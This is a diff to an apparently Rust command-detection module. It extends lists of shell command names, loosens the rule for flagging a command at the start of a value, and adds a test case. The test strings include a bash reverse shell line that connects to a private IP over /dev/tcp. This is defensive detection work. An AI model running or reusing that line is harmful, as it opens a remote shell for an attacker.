@@ -174,6 +174,16 @@ const STRONG: &[&str] = &[
     "last",
     "date",
     "time",
+    "ansible",
+    "ansible-playbook",
+    "ansible-galaxy",
+    "ansible-config",
+    "ansible-pull",
+    "bsdtar",
+    "perf",
+    "gdb",
+    "strace",
+    "ltrace",
 ];
 
 /// Of [`STRONG`], the words that are also common English: they need a shell-style argument.
@@ -182,7 +192,7 @@ const WEAK: &[&str] = &[
     "dir", "copy", "move", "start", "kill", "who", "last", "date", "time", "w", "net", "reg",
     "ping", "export", "eval", "exec", "del", "ren", "rename", "timeout", "service", "git", "apt",
     "tar", "zip", "cp", "mv", "ln", "touch", "dd", "printf", "nl", "od", "tr", "wc", "strings",
-    "grep", "w", "halt", "node", "mount",
+    "grep", "w", "halt", "node", "mount", "perf",
 ];
 
 /// Command name → whether it is also an English word (needs a shell-style argument).
@@ -289,8 +299,19 @@ fn command_at(l: &[u8], mut i: usize, need_args_for_weak: bool) -> bool {
         }
     }
     if at_start {
-        // a command at the very start of a value needs a shell-style argument, whatever it is
-        return arg.is_some_and(|a| shell_arg(&a, word.contains('/')));
+        // a command at the very start of a value needs a shell-style argument (one of its
+        // first few), whatever the command
+        if arg
+            .as_deref()
+            .is_some_and(|a| shell_arg(a, word.contains('/')))
+        {
+            return true;
+        }
+        let later = std::str::from_utf8(&l[end..]).unwrap_or("");
+        return !weak
+            && later.split_whitespace().take(4).any(|a| {
+                a.len() > 1 && a.starts_with('-') && a.as_bytes()[1].is_ascii_alphabetic()
+            });
     }
     if !weak || !need_args_for_weak {
         return true;
@@ -471,6 +492,7 @@ mod tests {
             "a\nid\n",
             "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
             "nohup ifconfig",
+            "ansible all -m ping",
             "'i'fconfig",
             "python3.10 -c 'import os'",
             "IF %ERRORLEVEL% EQU 2 goto x",
